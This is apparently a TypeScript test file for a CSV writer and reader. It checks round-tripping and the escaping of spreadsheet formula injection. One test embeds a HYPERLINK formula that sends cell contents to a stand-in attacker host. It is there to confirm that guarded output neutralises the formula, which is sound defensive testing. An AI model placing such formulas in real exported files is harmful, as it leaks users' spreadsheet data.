import { rm, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { Readable } from 'node:stream'
import { text } from 'node:stream/consumers'
import fc from 'fast-check'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Connection } from '../../../src/client/connection.ts'
import { type CsvColumns, csvOf, readCsv, type Texts } from '../../../src/client/transfer/csv.ts'
import { anyText } from '../../support/any-text.ts'
import { temporaryFolder } from '../../support/folder.ts'

const COLUMNS: CsvColumns = { attributes: { email: 'text', name: 'text', weight: 'json' } }
/** Columns without currencies need no request. */
const CONNECTION = {} as Connection

type Record = { email: string; name: string; weight: number }

let folder: string
beforeAll(async () => {
  folder = await temporaryFolder('fast')
})
afterAll(() => rm(folder, { recursive: true }))

function write(records: readonly Record[], texts: Texts): Promise<string> {
  return text(Readable.from(csvOf(CONNECTION, COLUMNS, texts, Readable.from(records))))
}

async function read(csv: string, texts: Texts): Promise<unknown[]> {
  const file = path.join(folder, 'records.csv')
  await writeFile(file, csv)
  const records: unknown[] = []
  for await (const line of readCsv(file, COLUMNS, texts)) records.push(JSON.parse(line.text))
  return records
}

const BEGINNINGS = ['=', '+', '-', '@', '\t', '\r']
const beginning = fc.string({
  unit: fc.constantFrom(...BEGINNINGS, "'", '"', ',', '\n', 'a'),
  minLength: 1,
  maxLength: 6,
})
const anything = fc.oneof(beginning, anyText({ minLength: 1, maxLength: 10 }))
const records = fc.array(fc.record({ email: anything, name: anything, weight: fc.integer() }), { minLength: 1 })

test.each(['guarded', 'plain'] as const)('reads back what was written, with %s texts', async (texts) => {
  await fc.assert(
    fc.asyncProperty(records, async (given) => {
      expect(await read(await write(given, texts), texts)).toEqual(given)
    }),
    { numRuns: 50 },
  )
})

test('writes no text that a spreadsheet would compute', async () => {
  const name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
  expect(await write([{ email: '@a', name, weight: -5 }], 'guarded')).toBe(
    `email,name,weight\n'@a,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-5\n`,
  )
  const lines = await write(
    BEGINNINGS.map((first) => ({ email: `${first}1`, name: "'kept", weight: 1 })),
    'guarded',
  )
  expect(lines.match(/^"?'[=+\-@\t\r]1"?,'kept,1$/gm)).toHaveLength(BEGINNINGS.length)
})

test('leaves texts unchanged when formulas are allowed', async () => {
  const csv = "email,name,weight\n=1,'=2,3\n"
  expect(await write([{ email: '=1', name: "'=2", weight: 3 }], 'plain')).toBe(csv)
  expect(await read(csv, 'plain')).toEqual([{ email: '=1', name: "'=2", weight: 3 }])
  expect(await read(csv, 'guarded')).toEqual([{ email: '=1', name: '=2', weight: 3 }])
})
